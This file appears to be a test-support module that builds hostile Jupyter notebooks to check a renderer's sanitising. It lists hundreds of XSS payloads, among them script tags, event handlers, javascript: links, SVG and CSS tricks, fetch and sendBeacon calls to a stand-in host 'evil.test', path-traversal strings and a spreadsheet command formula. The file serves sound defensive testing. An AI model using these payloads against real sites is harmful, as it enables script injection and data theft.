"""What an attacker would put into a notebook, by the part of the notebook that it hides in.

`PWN` stands for a call that reports a script that runs, `EVIL` for an address of another host; both get the number of
the payload. Each is alive: what it tries, browsers do, or did, where nobody cleans it.
"""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Iterator
from typing import Any, NamedTuple

from tests.support.notebooks import PIXEL, cell

HOST = "evil.test"
Cell = dict[str, Any]

# HTML, each tried in an output, a Markdown cell, a Markdown output, a raw cell, and a widget.
HTML: dict[str, tuple[str, ...]] = {
    "scripts": (
        "<script>PWN</script>",
        "<ScRiPt>PWN</sCrIpT >",
        "<script src=//EVIL></script>",
        "<script\x0c>PWN</script>",
        "<script/x>PWN</script/x>",
        "<scr<script>ipt>PWN</scr</script>ipt>",
        "<<script>PWN//<</script>",
        "<script>PWN",
        "<select><script>PWN</script></select>",
        "<select><iframe></select><img src=x onerror=PWN>",
        "<template shadowrootmode=open><script>PWN</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=PWN>'></noscript>",
        "<svg><script>PWN</script></svg>",
        "<svg></p><style><a id='</style><img src=x onerror=PWN>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=PWN&gt;'>",
        "<xmp><p title='</xmp><script>PWN</script>'></xmp>",
        "<plaintext><script>PWN</script>",
        "<style><script>PWN</script></style><style></style/><script>PWN</script>",
        "<title><p title='</title><script>PWN</script>'></title>",
        "<textarea><p title='</textarea><script>PWN</script>'></textarea>",
        "<noembed><p title='</noembed><script>PWN</script>'></noembed>",
        "<iframe><p title='</iframe><script>PWN</script>'></iframe>",
        "<!--><script>PWN</script>-->",
        "<!--!><img src=x onerror=PWN>--!><script>PWN</script>",
        "<![CDATA[<script>PWN</script>]]>",
        "<?xml <script>PWN</script> ?><script>PWN</script>",
        "<script type=module>PWN</script>",
        "<script type=importmap>{}</script><script type=module>import 'http://EVIL'</script>",
        "<table><script>PWN</script><tr><td><script>PWN</script></table>",
        "<b><script>PWN</b></script>",
        "<script>fetch('http://' + 'EVIL').catch(String)</script>",
        "<script>new Image().src = 'http:' + '//EVIL'; PWN</script>",
        "<script>parent.postMessage({type: 'height', height: 1e9, html: '<script>'}, '*'); PWN</script>",
        "<script>try { parent.document.title = 'x' } catch { PWN }</script>",
        "<script>PWN; top.location = 'http:' + '//EVIL'</script>",
        "<script>PWN; location = 'http:' + '//EVIL'</script>",
        "<script>PWN; open('http:' + '//EVIL')</script>",
        "<script>PWN; navigator.sendBeacon('http:' + '//EVIL')</script>",
        "<script>PWN; new EventSource('http:' + '//EVIL')</script>",
        "<script>PWN; document.body.innerHTML = '<iframe srcdoc=\"<img onerror=PWN src>\">'</script>",
        "<script>PWN; new Worker(URL.createObjectURL(new Blob(['fetch(\"http:\" + \"//EVIL\")'])))</script>",
        "<div id=element></div><script>PWN; document.write('<base href=http:' + '//EVIL><img src=x>')</script>",
        "<script>PWN; document.write('<meta http-equiv=refresh content=\"0;url=http:' + '//EVIL\">')</script>",
        "<script>PWN; document.write('<link rel=preconnect href=//' + 'EVIL>')</script>",
        "<script>PWN; document.write('<link rel=prefetch href=//' + 'EVIL>')</script>",
        "<form action=//EVIL></form><script>PWN; document.forms[0].submit()</script>",
    ),
    "handlers": (
        "<img src=x onerror=PWN>",
        "<img src=x onerror='PWN'>",
        '<img src=x oNeRrOr="PWN">',
        "<img/src=x/onerror=PWN>",
        "<img src=x\x0conerror=PWN>",
        "<img src=x onerror\x0c=PWN>",
        "<img src=x onerror=&#112;wned&lpar;0&rpar;;PWN>",
        '<img src="x" width="1 onerror=PWN">',
        "<img src=x alt=`x` onerror=PWN>",
        "<img src='x' 'onerror=PWN>",
        '<img """><img src=x onerror=PWN>">',
        "<img src=x onerror=PWN//",
        "<image src=x onerror=PWN>",
        "<details open ontoggle=PWN><summary>s</summary>x</details>",
        "<video src=x onerror=PWN></video>",
        "<video><source onerror=PWN></video>",
        "<audio src=x onerror=PWN></audio>",
        "<video poster=x onloadstart=PWN src=x></video>",
        "<body onload=PWN>",
        "<body onpageshow=PWN>",
        "<input autofocus onfocus=PWN>",
        "<select autofocus onfocus=PWN>",
        "<p tabindex=0 autofocus onfocus=PWN>x</p>",
        "<marquee onstart=PWN>x</marquee>",
        "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=PWN>x</p>",
        "<p style='transition:outline 1s' ontransitionend=PWN>x</p>",
        "<p onclick=PWN onmouseover=PWN onpointerenter=PWN>x</p>",
        "<p oncontentvisibilityautostatechange=PWN style='content-visibility:auto'>x</p>",
        "<svg onload=PWN></svg>",
        "<svg/onload=PWN>",
        "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>",
        "<iframe onload=PWN></iframe>",
        "<object onerror=PWN data=x></object>",
        "<embed src=x onload=PWN>",
        "<link rel=stylesheet href=x onerror=PWN>",
        "<dialog open onclose=PWN><form method=dialog><button>x</button></form></dialog>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=PWN>x</p>",
        "<xss onscrollsnapchange=PWN onbeforematch=PWN tabindex=1>x</xss>",
        "<table background=http://EVIL onload=PWN><tr><td>1</td></tr></table>",
    ),
    "links": (
        "<a href='javascript:PWN'>x</a>",
        "<a href='JaVaScRiPt:PWN'>x</a>",
        "<a href=' &#14; javascript:PWN'>x</a>",
        "<a href='java\tscript:PWN'>x</a>",
        "<a href='java&#10;script:PWN'>x</a>",
        "<a href='java&NewLine;script&colon;PWN'>x</a>",
        "<a href='&#106;avascript:PWN'>x</a>",
        "<a href='&#x6A;avascript&#58;PWN'>x</a>",
        "<a href='\u200bjavascript:PWN'>x</a>",
        "<a href='\x01javascript:PWN'>x</a>",
        "<a href='javascript://%0aPWN'>x</a>",
        "<a href='vbscript:PWN'>x</a>",
        "<a href='data:text/html,<script>PWN</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+PWN'>x</a>",
        "<a href='blob:http://EVIL'>x</a>",
        "<a href='figure:1'>x</a><img src=figure:1><img src='asset:outputs/x.html'>",
        "<a href='asset:outputs/x.html'>x</a>",
        "<a href=x ping=http://EVIL>x</a>",
        "<a href='javascript:PWN' target=_blank rel=opener>x</a>",
        "<svg><a xlink:href='javascript:PWN'><text y=9>x</text></a></svg>",
        "<math><mi href='javascript:PWN'>x</mi></math>",
        "<math xlink:href='javascript:PWN'>x</math>",
        "<map name=m><area href='javascript:PWN' shape=default></map><img usemap=#m src=x>",
        "<form action='javascript:PWN'><button>x</button></form>",
        "<form><button formaction='javascript:PWN'>x</button></form>",
        "<isindex action='javascript:PWN' type=submit value=x>",
        "<blockquote cite='javascript:PWN'>x</blockquote><q cite='javascript:PWN'>x</q>",
        "<img src='javascript:PWN'>",
        "<iframe src='javascript:PWN'></iframe>",
        "<object data='javascript:PWN'></object>",
        "[x](javascript:PWN)",
        "[x](&#106;avascript:PWN)",
        "[x](<java\tscript:PWN>)",
        "[x]: javascript:PWN\n\n[x]",
        "<javascript:PWN>",
        '![x](x "title\' onerror=PWN")',
        '![x" onerror=PWN y="](x)',
        "[x](http://example.org/?\"onmouseover=PWN)",
    ),
    "drawings": (
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><img src=x onerror=PWN></foreignObject></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=PWN></svg>#x'/></svg>",
        "<svg><use href='http://EVIL#x'/></svg>",
        "<svg><image href='http://EVIL' width=9 height=9 /></svg>",
        "<svg><image xlink:href='http://EVIL' onerror=PWN /></svg>",
        "<svg><a><animate attributeName=href values=javascript:PWN /><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onload to=PWN /></svg>",
        "<svg><style>@import 'http://EVIL';</style><rect width=9 height=9 /></svg>",
        "<svg><style>rect{fill:url(http://EVIL)}</style><rect width=9 height=9 /></svg>",
        "<svg><rect width=9 height=9 fill='url(http://EVIL#x)'/></svg>",
        "<svg><filter id=f><feImage href='http://EVIL'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
        "<svg><desc><![CDATA[</desc><script>PWN</script>]]></desc></svg>",
        "<svg><title><img src=x onerror=PWN></title></svg>",
        "<svg><metadata><script>PWN</script></metadata></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>PWN</handler></svg>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=PWN></annotation-xml></math>",
        "<math><maction actiontype=statusline#http://EVIL xlink:href='javascript:PWN'>x</maction></math>",
        "<math><semantics><annotation-xml encoding=text/html><script>PWN</script></annotation-xml></semantics></math>",
        "<math href='javascript:PWN'><mtext>x</mtext></math>",
    ),
    "styles": (
        "<style>@import 'http://EVIL';</style>",
        "<style>@import url(//EVIL);p{background:url(http://EVIL)}</style>",
        "<style>@font-face{font-family:x;src:url(http://EVIL)}body{font-family:x}</style>",
        "<style>a[href^='/']{background:url(http://EVIL)}</style>",
        "<style>body{display:none!important}</style>",
        "<p style='background:url(http://EVIL)'>x</p>",
        "<p style='background-image:url(http://EVIL)'>x</p>",
        "<p style='list-style-image:url(http://EVIL);display:list-item'>x</p>",
        "<p style='background-color:red;background:u\\72l(http://EVIL)'>x</p>",
        "<p style='color:red;background:image-set(\"http://EVIL\" 1x)'>x</p>",
        "<p style='border-image:url(http://EVIL) 1'>x</p>",
        "<p style='cursor:url(http://EVIL),auto;content:url(http://EVIL)'>x</p>",
        "<p style='font-family:expression(PWN);width:expression(PWN)'>x</p>",
        "<p style='behavior:url(http://EVIL);-moz-binding:url(http://EVIL)'>x</p>",
        "<p style='--x:url(http://EVIL);background:var(--x)'>x</p>",
        "<link rel=stylesheet href=http://EVIL>",
        "<style>#T_x th{background:url(http://EVIL)}</style><table id=T_x><tr><th>x</th></tr></table>",
        "<style>#T_x th{color:red\\;}</style><table id=T_x><tr><th style='x\" onclick=PWN'>x</th></tr></table>",
        "<style>#T_x_r0{color:'\"><img src=x onerror=PWN>'}</style><table id=T_x><tr id=T_x_r0><td>x</td></tr></table>",
    ),
    "frames": (
        "<iframe src=http://EVIL></iframe>",
        "<iframe src='data:text/html,<script>PWN</script>'></iframe>",
        "<iframe src='data:text/html;base64,PHNjcmlwdD5wd25lZCgwKTwvc2NyaXB0Pg=='></iframe>",
        '<iframe srcdoc="<script>PWN</script>"></iframe>',
        "<iframe srcdoc='&lt;img src=http://EVIL onerror=PWN&gt;'></iframe>",
        "<iframe srcdoc=\"<iframe srcdoc='<script>PWN</script>'></iframe>\" sandbox='allow-same-origin allow-scripts'>",
        "<iframe src=/ sandbox='allow-scripts allow-same-origin allow-top-navigation'></iframe>",
        "<object data=http://EVIL></object>",
        "<object data='data:text/html,<script>PWN</script>' type=text/html></object>",
        "<embed src=http://EVIL>",
        "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=PWN></svg>'>",
        "<base href=http://EVIL/><img src=x>",
        "<meta http-equiv=refresh content='0;url=http://EVIL'>",
        "<meta http-equiv=refresh content='0;url=javascript:PWN'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src *\"><script src=http://EVIL></script>",
        "<link rel=dns-prefetch href=http://EVIL><link rel=preconnect href=http://EVIL>",
        "<link rel=prerender href=http://EVIL><link rel=manifest href=http://EVIL>",
        "<form action=http://EVIL><input name=q value=1><button>x</button></form>",
        "<frameset><frame src=http://EVIL onload=PWN></frameset>",
        "<portal src=http://EVIL onload=PWN></portal><fencedframe src=http://EVIL></fencedframe>",
        "<applet code=http://EVIL></applet><bgsound src=http://EVIL>",
        "<video src=http://EVIL autoplay></video>",
        "<video autoplay><source src=//EVIL><track src=http://EVIL default></video>",
        "<audio src='https://EVIL' autoplay></audio>",
        "<video poster=http://EVIL></video>",
        "<audio src=data:text/html,PWN autoplay></audio>",
        "<img src=http://EVIL>",
        "<img src=x srcset='http://EVIL 1x'>",
        "<img src='\\\\EVIL'>",
        "<img src='/\\EVIL'>",
        "<img src='ht\ntp://EVIL'>",
        "<picture><source srcset=http://EVIL><img src=x></picture>",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"PWN\">'>",
        "<input type=image src=http://EVIL>",
        "<td background=http://EVIL>x</td><body background=http://EVIL>",
    ),
    "names": (
        "<a id=MathJax name=MathJax href='javascript:PWN'>x</a>",
        "<img name=querySelectorAll id=querySelectorAll src=x>",
        "<form name=defaultView><input name=location></form>",
        "<p id=_main>x</p><a name=_main>x</a>",
        "<p id=payload>\"&lt;script&gt;PWN&lt;/script&gt;\"</p><p id=closed>x</p>",
        "<a id=self name=origin href=http://EVIL>x</a><a id=top>x</a><a id=parent>x</a>",
        "<p id='x\" onclick=PWN y=\"'>x</p>",
        "<p class='x\" onclick=PWN y=\"' title='\"><script>PWN</script>' lang='\" onclick=PWN'>x</p>",
        "<p aria-label='\"><img src=x onerror=PWN>' dir='\"><script>PWN</script>'>x</p>",
    ),
}  # fmt: skip


class Payload(NamedTuple):
    """A payload with its number: the family, the text with the number in it."""

    number: int
    family: str
    text: str


def numbered() -> Iterator[Payload]:
    """Yield every payload of HTML with a number of its own."""
    texts = ((family, text) for family, texts in HTML.items() for text in texts)
    for number, (family, text) in enumerate(texts, 1):
        yield Payload(number, family, armed(text, number))


def armed(text: str, number: int) -> str:
    """Put the number of a payload where it reports itself."""
    return text.replace("PWN", f"pwned({number})").replace("EVIL", f"{HOST}/{number}")


def output(data: dict[str, Any], metadata: dict[str, Any] | None = None, **more: Any) -> Cell:
    """Return a code cell with one output."""
    shown = {"output_type": "display_data", "data": data, "metadata": metadata or {}}
    return cell("1", "code", outputs=[shown], **more)


def hidden(payload: Payload) -> list[Cell]:
    """Return the cells that carry one payload of HTML, each at a place of its own.

    A widget of HTML is shown as an output of HTML is: a few of them will do.
    """
    places = [
        output({"text/html": payload.text}),
        cell(f"x {payload.text}"),
        cell(payload.text),
        output({"text/markdown": payload.text}),
        cell(payload.text, "raw", metadata={"raw_mimetype": "text/html"}),
        output({"application/vnd.jupyter.widget-view+json": {"model_id": f"html-{payload.number}"}}),
    ]
    return places if payload.number % 8 == 1 else places[:-1]


def widgets() -> dict[str, Any]:
    """Return the state of the widgets: one of HTML for every payload, and one for each that hides in what is saved."""
    models = {f"html-{each.number}": model("HTMLModel", value=each.text) for each in numbered()}
    models |= {
        "box": model("VBoxModel", children=["IPY_MODEL_label", "IPY_MODEL_slider", "IPY_MODEL_inner"]),
        "label": model("LabelModel", value=_VALUE, description=_VALUE),
        "inner": model("HTMLModel", value=armed("<script>PWN</script><img src=http://EVIL onerror=PWN>", 904)),
        "slider": model("IntSliderModel", value=3, max=9, description="</script><script>pwned(901)</script>"),
        "foreign": {"model_module": "http://evil.test/902", "model_name": "X", "state": {"_data_url": "javascript:1"}},
        "canvas": model("CanvasModel", _data_url='data:image/png;base64,"><script>pwned(903)</script>'),
    }
    return {"application/vnd.jupyter.widget-state+json": {"state": models, "version_major": 2, "version_minor": 0}}


def model(name: str, **state: Any) -> dict[str, Any]:
    module = {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0", "model_name": name}
    view = {"_view_module": "@jupyter-widgets/controls", "_view_name": name.replace("Model", "View")}
    return {**module, "state": {"_model_name": name, "_model_module": "@jupyter-widgets/controls", **view, **state}}


_VALUE = "</script><script>pwned(900)</script><img src=http://evil.test/900 onerror=pwned(900)>"
_BREAK = '"><script>PWN</script><img src=http://EVIL onerror=PWN>'
_END = "</script><script>PWN</script><img src=http://EVIL onerror=PWN>"
_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
)


def _data() -> Iterator[tuple[dict[str, Any], dict[str, Any]]]:
    """Yield mime bundles with their metadata, each hostile in data that is not HTML by itself."""
    svg = (
        "<script>PWN</script>",
        "<image href='http://EVIL' width='9' height='9'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='PWN'/></body></foreignObject>",
        "<style>@import 'http://EVIL';</style>",
        "<rect width='9' height='9' onload='PWN' style='fill:url(http://EVIL)'/>",
        "<use xlink:href='http://EVIL#x'/><a xlink:href='javascript:PWN'><text y='9'>x</text></a>",
    )
    yield from (({"image/svg+xml": _SVG.format(inner)}, {}) for inner in svg)
    yield {"image/svg+xml": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'http://EVIL'>]>" + _SVG.format("<text>&x;</text>")}, {}
    yield {"image/svg+xml": _SVG.format("<text>x</text>").replace("<svg", "<svg onload='PWN'")}, {"width": _BREAK}
    png = b64encode(b"\x89PNG\r\n\x1a\n<script>").decode()
    yield {"image/png": PIXEL}, {"width": "1 onerror=PWN", "height": _BREAK, "alt": _BREAK}
    yield {"image/png": PIXEL}, {"image/png": {"width": "1 onerror=PWN"}, "filename": f"../../{_BREAK}"}
    yield {"image/png": png}, {}
    yield {'image/png"><script>PWN</script>': PIXEL}, {}
    yield {"image/" + _BREAK: PIXEL, "text/x" + _BREAK: _BREAK}, {}
    yield {"text/vnd.mermaid": f"graph TD; A[{_BREAK}] --> B; click A 'javascript:PWN'"}, {}
    yield {"text/latex": f"$\\href{{javascript:PWN}}{{x}} \\text{{{_BREAK}}} \\url{{http://EVIL}}$"}, {}
    yield {"text/latex": f"\\begin{{align}}{_BREAK}\\end{{align}}"}, {}
    yield {"text/plain": _BREAK}, {}
    yield {"application/json": {_BREAK: [_BREAK, {_END: _END}]}}, {"expanded": _BREAK}
    yield {"application/geo+json": {"type": "Point", "coordinates": [1, 2], "properties": {_BREAK: _BREAK}}}, {}
    yield {"application/geo+json": {"type": _BREAK, "coordinates": _BREAK}}, {}
    rows = {"schema": {"fields": [{"name": _BREAK}]}, "data": [{_BREAK: _BREAK}, {_BREAK: "=cmd|' /C x'!A0"}]}
    yield {"application/vnd.dataresource+json": rows}, {}
    yield {"application/vdom.v1+json": {"tagName": "script", "children": ["PWN"], "attributes": {}}}, {}
    attributes = {"href": "javascript:PWN", "onClick": "PWN", "onclick": "PWN", "style": {"background": "url(//EVIL)"}}
    yield {"application/vdom.v1+json": {"tagName": "a", "attributes": attributes, "children": [_BREAK]}}, {}
    yield {"application/vdom.v1+json": {"tagName": "img src=x onerror=PWN", "attributes": {"x onload": "PWN"}}}, {}
    yield {"application/vdom.v1+json": {"tagName": "iframe", "attributes": {"srcDoc": "<script>PWN</script>"}}}, {}
    yield {"application/javascript": f"/*</script>*/ PWN; element.innerHTML = '<img src=x onerror=PWN>'; '{_END}'"}, {}
    yield {"application/javascript": "top.document.title = 'x'; element.append('x')"}, {}
    yield {"application/javascript": "element.innerHTML = '<img src=http:' + '//EVIL>'; fetch('/'); PWN"}, {}
    yield {"text/javascript": "PWN"}, {}
    trace = {"type": "scatter", "y": [1, 2], "name": f"{_END}<a href='javascript:PWN'>x</a>", "text": _BREAK}
    drawing = {"source": "http://EVIL", "xref": "paper", "yref": "paper", "x": 0, "y": 0, "sizex": 1, "sizey": 1}
    note = {"text": "<a href='javascript:PWN'>x</a><img src=http://EVIL>", "x": 0, "y": 1}
    layout = {"title": {"text": _END}, "images": [drawing], "annotations": [note], "height": "1e9", "width": _BREAK}
    config = {"plotlyServerURL": "http://EVIL", "showLink": True, "linkText": _BREAK}
    yield {"application/vnd.plotly.v1+json": {"data": [trace], "layout": layout, "config": config}}, {}
    maps = {"data": [{"type": "choropleth", "locations": ["X"], "z": [1], "geojson": "http://EVIL"}], "layout": {}}
    yield {"application/vnd.plotly.v1+json": maps}, {}
    yield {"text/html": f"<div></div><script>Plotly.newPlot('x', {json.dumps([trace])}, {{}}); PWN</script>"}, {}
    point = [{"a": 1, "url": "http://EVIL", "link": "javascript:PWN"}]
    marks = {"mark": "image", "encoding": {"url": {"field": "url"}, "href": {"field": "link"}}}
    vega = {"data": {"values": point}, "title": _END, "description": _BREAK, **marks}
    yield {"application/vnd.vegalite.v5+json": vega}, {}
    linked = {"data": {"values": point}, "title": _END, "description": _BREAK, "mark": "point"}
    yield {"application/vnd.vegalite.v5+json": linked | {"encoding": {"href": {"field": "link"}}}}, {}
    yield {"application/vnd.vegalite.v5+json": {"data": {"url": "http://EVIL"}, "mark": "point"}}, {}
    transform = [{"calculate": "(function(){PWN})()", "as": "b"}]
    yield {"application/vnd.vegalite.v5+json": {"data": {"values": point}, "mark": "bar", "transform": transform}}, {}
    signal = [{"name": "x", "update": "warn('PWN') + replace('', /x/, constructor.constructor('PWN')())"}]
    yield {"application/vnd.vega.v5+json": {"signals": signal, "marks": [{"type": "image", "url": "http://EVIL"}]}}, {}
    loader = {
        "data": {"values": point},
        "mark": "point",
        "usermeta": {"embedOptions": {"loader": {"baseURL": "//EVIL"}}},
    }
    yield {"application/vnd.vegalite.v5+json": loader}, {}
    div = {"type": "object", "name": "Div", "id": "1", "attributes": {"text": f"{_END}<a href='javascript:PWN'>x</a>"}}
    bokeh = {"d": {"version": "3.9.0", "title": _END, "roots": [div]}}
    yield (
        {
            "application/vnd.bokehjs_exec.v0+json": "",
            "application/javascript": f"var docs_json = {json.dumps(bokeh)}; var render_items = [{{}}]; PWN",
        },
        {},
    )
    yield {"audio/wav": b64encode(b"<script>PWN</script>").decode()}, {"width": _BREAK}
    yield {"video/mp4": b64encode(b"\0\0\0\x18ftypmp42<script>").decode()}, {"width": _BREAK, "height": "1 onerror=PWN"}
    yield {"application/pdf": b64encode(b"%PDF-1.4 <script>PWN</script>").decode()}, {"filename": _BREAK}
    yield {"text/html": _BREAK, "application/x-unknown": _BREAK}, {}
    yield {"application/vnd.jupyter.error": {"name": _BREAK, "message": _BREAK, "stack": _BREAK}}, {}


def plain() -> Iterator[Cell]:
    """Yield cells that are hostile in their metadata, streams, errors, attachments and data, with their numbers."""
    made: list[Cell] = [output(data, metadata) for data, metadata in _data()]
    made += [output({"application/vnd.jupyter.widget-view+json": {"model_id": one}}) for one in _SAVED]
    for name in ("stdout", _BREAK):
        stream = {"output_type": "stream", "name": name, "text": f"{_BREAK}\x1b]8;;javascript:PWN\x07x\x1b]8;;\x07"}
        made.append(cell("1", "code", outputs=[stream]))
    colours = f'\x1b[31;38;5;1"><script>PWN</script>m{_BREAK}\x1b[0m\x1b]8;;http://EVIL\x1b\\x\x1b]8;;\x1b\\'
    made.append(cell("1", "code", outputs=[{"output_type": "stream", "name": "stderr", "text": colours}]))
    error = {"output_type": "error", "ename": _BREAK, "evalue": _BREAK, "traceback": [f"\x1b[31m{_BREAK}", _BREAK]}
    made.append(cell("1", "code", outputs=[error]))
    made.append(cell(f"{_BREAK}\n# {_END}", "code"))
    made.append(cell(f"%%html\n{_BREAK}", "code"))
    said = {"hide_input": _BREAK, "tags": [_BREAK, "hide-input"], "collapsed": _BREAK, "jupyter": {"x": _BREAK}}
    made.append(cell("1", "code", metadata=said, id=_BREAK[:60]))
    options = f"#| label: \"{_BREAK}\"\n#| fig-cap: '{_BREAK}'\n#| fig-alt: '{_BREAK}'\n#| code-summary: '{_BREAK}'\n"
    made.append(output({"image/png": PIXEL}) | {"source": f"{options}#| code-fold: true\n#| tbl-cap: '{_BREAK}'\n1"})
    made.append(output({"image/png": PIXEL}) | {"source": f"#| label: fig-{_BREAK}\n1"})
    pictures = {_BREAK: {"image/png": PIXEL}, "x.png": {"image/svg+xml": wrapped("<script>PWN</script>")}}
    pictures |= {"y.png": {"text/html": wrapped("<script>PWN</script>")}, "../../z.png": {_BREAK: PIXEL}}
    shown = f"![{_BREAK}](x.png) ![x](attachment:x.png) ![x](attachment:y.png) ![x](attachment:../../z.png)"
    made.append(cell(f"{shown} ![x](<attachment:{_BREAK}>)", attachments=pictures))
    made += [cell(text) for text in _MARKDOWN]
    for kind in ("text/html", "text/markdown", "text/plain", _BREAK):
        made.append(cell(_BREAK, "raw", metadata={"raw_mimetype": kind, "format": kind}))
    made.append(cell(_BREAK, _BREAK))
    for number, one in enumerate(made, 501):
        yield dict(json.loads(_armed_json(one, number)))


def wrapped(text: str) -> str:
    return b64encode(text.encode()).decode()


def _armed_json(one: Cell, number: int) -> str:
    return json.dumps(one).replace("PWN", f"pwned({number})").replace("EVIL", f"{HOST}/{number}")


_SAVED = ("box", "label", "slider", "foreign", "canvas", "missing")
_MARKDOWN = (
    f"```{_BREAK}\nx\n```",
    f"```python {_BREAK}\nx\n```",
    f"```{{mermaid}}\n{_BREAK}\n```",
    f"```mermaid\n{_BREAK}\n```",
    f"## {_BREAK} {{#x\" onclick=PWN}}",
    f"::: {{.callout-note title='{_BREAK}'}}\n{_BREAK}\n:::",
    f"```{{admonition}} {_BREAK}\n:class: {_BREAK}\n{_BREAK}\n```",
    f"> [!NOTE] {_BREAK}\n> {_BREAK}",
    f"x[^{_BREAK}]\n\n[^{_BREAK}]: {_BREAK}",
    f"| {_BREAK} |\n|---|\n| {_BREAK} |",
    f"$x {_BREAK}$ and $$\\href{{javascript:PWN}}{{x}}{_BREAK}$$",
    f"- [ ] {_BREAK}\n- [x] {_BREAK}",
    f"Term {_BREAK}\n: {_BREAK}",
    '![x](x.png){width="1 onerror=PWN" .x"onclick=PWN #y"onclick=PWN onclick="PWN"}',
    '<http://example.org/"onmouseover=PWN> and http://example.org/"onmouseover=PWN//<script>PWN</script>',
    "&lt;script&gt;PWN&lt;/script&gt; &#60;img src=x onerror=PWN&#62;",
)  # fmt: skip

# Front matter, one notebook each: what is refused must not be shown either.
FRONT: tuple[dict[str, Any], ...] = (
    {"title": _BREAK, "subtitle": _BREAK, "description": _BREAK, "tags": [_BREAK, "a\" onclick=PWN"]},
    {"title": f"</title>{_END}", "authors": [{"name": _BREAK, "url": "/x"}], "series": _BREAK},
    {"title": "[x](javascript:PWN) ![x](http://EVIL) `</code><script>PWN</script>`", "language": "en"},
    {"title": "author", "authors": [{"name": "x", "url": "javascript:PWN"}]},
    {"title": "author 2", "authors": "<a href='javascript:PWN'>x</a>, [y](javascript:PWN)"},
    {"title": "image", "image": "http://EVIL", "image-alt": _BREAK},
    {"title": "image 2", "image": "data:text/html,<script>PWN</script>", "image-alt": _BREAK},
    {"title": "canonical", "canonical": "javascript:PWN"},
    {"title": "canonical 2", "canonical": "http://example.org/\"><script>PWN</script>"},
    {"title": "slug", "slug": "../../<script>PWN</script>"},
    {"title": "aliases", "aliases": ["/<script>PWN</script>/", "//EVIL", "javascript:PWN"]},
    {"title": "language", "language": "en\" onclick=PWN x=\""},
    {"title": "license", "license": "<a href='javascript:PWN'>x</a>", "focus": _BREAK},
)  # fmt: skip
FILES = (
    "<img src=x onerror=pwned(801)>.ipynb",
    '"onclick=pwned(802) x=".ipynb',
    "javascript:pwned(803).ipynb",
    "'><script>pwned(804)<script>.ipynb",
    "evil.test\\x.ipynb",
)


def front(number: int, written: dict[str, Any]) -> dict[str, Any]:
    """Return front matter with its number."""
    return dict(json.loads(_armed_json(written, number)))


PATHS = (
    "",
    "/etc/passwd",
    "..",
    "../x",
    "a/../../x",
    "a/..",
    ".",
    "a//b",
    "a/",
    "./a",
    "a\\b",
    "..\\x",
    "C:/x",
    "c:x",
    "a\0b",
    "\ud800",
)
